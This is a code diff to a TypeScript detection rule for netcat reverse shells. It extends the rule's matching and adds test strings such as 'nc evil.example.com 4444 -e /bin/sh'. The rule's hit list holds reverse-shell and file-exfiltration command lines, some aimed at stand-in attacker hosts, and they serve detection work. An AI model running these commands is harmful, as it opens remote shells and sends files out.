@@ -55,6 +55,19 @@ const BEFORE: ByteRun = noneOf(`${DIGITS}${UPPER}${LOWER.replace(/[nrt]/g, '')}_
 const BLANK = oneOf(' \t\\');
 
 /**
+ * Where a text begins with the name, nothing stands before it, and `nc` with a letter behind it is in every `async f`.
+ * There the end of the host with the port makes the anchor: a top-level domain of two to five letters, `.example`
+ * or `localhost`. It is asked for in the first bytes alone.
+ */
+const PORT_AFTER_NAME: readonly ByteRun[] = [
+  ...[2, 3, 4].map((letters) => [...literal('.'), ...oneOf(LOWER, letters), ...literal(' '), ...oneOf(DIGITS, 2)]),
+  [...literal('.'), ...oneOf(LOWER, 5), ...literal(' '), ...oneOf(DIGITS)],
+  [...literal('ample '), ...oneOf(DIGITS, 2)],
+  [...literal('host '), ...oneOf(DIGITS, 2)],
+];
+const MAX_FIRST_PORT = 256;
+
+/**
  * Netcat with a host and a port, or with a shell to serve. A host is a dotted name, an address, `localhost` or a
  * variable; behind an option any name. `nc -z`, which only probes, does not count.
  */
@@ -70,17 +83,18 @@ export const reverseShell = defineRule({
     [...literal('ncat'), ...oneOf(' \t'), ...oneOf(`-$[:${DIGITS}`)],
     [...literal('netcat'), ...BLANK],
     [...literal('nc.'), ...oneOf('eto'), ...oneOf('xrp'), ...oneOf('ea')],
+    ...PORT_AFTER_NAME,
   ],
   match(text, at) {
-    const from = matchAt(COMMAND, text, at) === undefined ? at + 1 : at;
-    const command = matchAt(COMMAND, text, from);
+    const places = at <= MAX_FIRST_PORT ? [at, at + 1, 0] : [at, at + 1];
+    const command = places.map((place) => matchAt(COMMAND, text, place)).find((found) => found !== undefined);
     if (command === undefined) return undefined;
     const all = [...wordsFrom(text, command.to, at + MAX_REACH)];
     const words = all.map(({ word }) => word);
     const program = programIndex(words);
     const port = program < 0 && onlyProbes(words) ? -1 : portIndex(words);
     const last = all[Math.max(program, port)];
-    return last && { from, to: last.to };
+    return last && { from: command.from, to: last.to };
   },
   hits: [
     'nc 198.51.100.7 4444',
@@ -92,6 +106,9 @@ export const reverseShell = defineRule({
     'nc -lvnp 4444 -e /bin/bash',
     'nc.traditional -c bash localhost 1337.',
     String.raw`{"cmd":"nc \"$RHOST\" $RPORT"}`,
+    'nc evil.example.com 4444 -e /bin/sh',
+    'nc attacker.example 80',
+    'ncat localhost 9001',
     'run: nc -w 3 kali 4444 < /etc/hosts',
   ],
   misses: [
